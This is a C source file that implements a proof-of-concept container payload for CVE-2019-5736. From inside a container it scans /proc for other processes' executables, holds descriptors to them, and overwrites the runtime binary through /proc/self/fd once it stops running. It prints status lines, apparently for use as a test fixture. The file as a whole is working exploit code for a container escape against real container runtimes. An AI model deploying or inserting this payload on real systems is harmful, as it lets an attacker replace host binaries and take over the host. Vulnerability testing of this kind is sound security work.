/* SPDX-License-Identifier: MIT */
/*
 * A container's payload that tries to overwrite the binary of whoever enters it
 * (CVE-2019-5736): it opens /proc/PID/exe of every process it sees that is not its own
 * binary, and writes to it through the descriptor as soon as nobody runs it any more.
 * Prints "held" for each such binary and "wrote" when it has overwritten one.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { HELD_MAX = 64 };

static int held[HELD_MAX];
static unsigned nheld;
static struct stat own;

static void say(const char *word)
{
	if (write(STDOUT_FILENO, word, strlen(word)) < 0)
		_exit(1);
}

static void take(const char *pid)
{
	char path[300];
	struct stat st;
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (nheld == HELD_MAX || fstat(fd, &st) < 0 ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino)) {
		close(fd);
		return;
	}
	for (unsigned i = 0; i < nheld; i++) {
		struct stat other;

		if (fstat(held[i], &other) == 0 && other.st_dev == st.st_dev &&
		    other.st_ino == st.st_ino) {
			close(fd);
			return;
		}
	}
	held[nheld++] = fd;
	say("held\n");
}

/* ETXTBSY while it runs; afterwards our own descriptor opens it for writing. */
static void overwrite(void)
{
	for (unsigned i = 0; i < nheld; i++) {
		char path[64];
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (write(fd, "evil", 4) == 4)
			say("wrote\n");
		pause();                        /* until it is killed */
	}
}

int main(void)
{
	struct dirent *e;
	DIR *proc = opendir("/proc");

	if (!proc || stat("/proc/self/exe", &own) < 0)
		return 1;
	say("ready\n");
	for (;;) {
		rewinddir(proc);
		while ((e = readdir(proc)) != NULL)
			if (e->d_name[0] >= '0' && e->d_name[0] <= '9')
				take(e->d_name);
		overwrite();
	}
}
